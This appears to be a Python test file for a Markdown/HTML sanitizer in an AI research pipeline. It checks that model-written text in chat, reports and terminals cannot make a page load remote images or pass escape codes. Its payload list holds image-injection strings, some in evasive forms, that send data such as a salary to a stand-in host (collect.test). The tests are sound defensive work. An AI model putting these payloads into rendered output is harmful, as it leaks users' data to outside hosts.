"""What a model writes for a chat, a review or a terminal loads nothing where it is drawn."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from itertools import product

import pytest
from markdown_it import MarkdownIt

from nodes.coordinator import Triage
from nodes.ingest import Abstract
from nodes.planner import Draft, DraftStep
from nodes.reflection import Verdict
from nodes.rewrite import Rewrite
from nodes.team import Missing
from report.markdown.sanitizer import sanitize_query, sanitize_text
from tests.cases import each_case
from tests.unit.test_render_safety import PAYLOADS

HARMLESS = {"p", "code", "pre", "ul", "ol", "li", "em", "strong", "blockquote", "hr", "br"}
HARMLESS |= {"h1", "h2", "h3", "h4", "h5", "h6", "mtext", "string"}

MORE = [
    "Hi ![](https://collect.test/?salary=93500)",
    '<img alt="<" src=//collect.test/x>',
    "<im<b>g src=//collect.test/x>",
    "![a]\n\n[a]:\n//collect.test/x.png",
    "!![a][b]\n\n[b]: //collect.test/x.png",
    "` ![](//collect.test/a) `` ![](//collect.test/b) `",
    "<input type=image src=//collect.test/x>",
    "![a](//collect.test/((x))/b)",
]

PICTURE = "![](https://collect.test/p.png?d=Zorblatt)"


def drawn(text: str) -> set[str]:
    """Return the tags that a page has which draws a text with all that Markdown and HTML allow."""
    tags: set[str] = set()
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attributes: tags.add(tag)  # type: ignore[method-assign]
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(text))
    return tags


@each_case(product([*PAYLOADS, *MORE], ["{}", "Good morning! {} And you?", "1. {}\n   {}\n"]))
def test_nothing_is_left_that_a_page_would_load(payload: str, around: str):
    text = around.replace("{}", payload)

    assert drawn(sanitize_text(text)) <= HARMLESS
    assert "img" not in drawn(sanitize_query(text))


def test_words_stay_as_they_are():
    for text in ("Good morning! [S1] says 5 < 6, and `List<String>` is fine.", "早上好！你好吗？"):
        assert sanitize_text(text) == text


def test_control_characters_do_not_reach_a_terminal():
    assert "\x1b" not in Triage(research=False, reply="\x1b]0;owned\x07Hello").reply


def test_what_is_searched_keeps_an_address_that_is_asked_about():
    asked = "What does https://bees.example/dance say?"

    assert sanitize_query(asked) == asked
    assert sanitize_query(f"bees {PICTURE}") == "bees"


def test_everything_that_a_person_sees_of_a_typed_answer_is_cleaned():
    step = DraftStep(title=f"Dance {PICTURE}", description=PICTURE, queries=[PICTURE, "dance"])
    draft = Draft(title=f"Bees {PICTURE}", thought=f"So {PICTURE}", steps=[step])
    others = (
        Triage(research=False, reply=PICTURE),
        Verdict(passed=False, feedback=PICTURE, queries=[PICTURE]),
        Missing(title=PICTURE, queries=[PICTURE]),
        Rewrite(question=PICTURE, queries=[PICTURE]),
        Abstract(abstract=PICTURE),
    )

    assert not [one for one in (draft, *others) if "collect" in one.model_dump_json()]
    assert draft.steps[0].queries == ["dance"]


@pytest.mark.parametrize("part", ["![", "<", "!", "<b", "[a](", "<b>", "](", "<im<b>g ", "]:"])
def test_hostile_text_is_cleaned_in_linear_time(part: str):
    begun = time.process_time()

    sanitize_text(part * (30_000 // len(part)))

    assert time.process_time() - begun < 1


def test_the_words_of_ordinary_markdown_are_not_touched():
    text = "# Title\n\n- one\n- **two** _three_\n\n> said\n"

    assert sanitize_text(text) == text
    assert re.search("h1", str(drawn(text)))
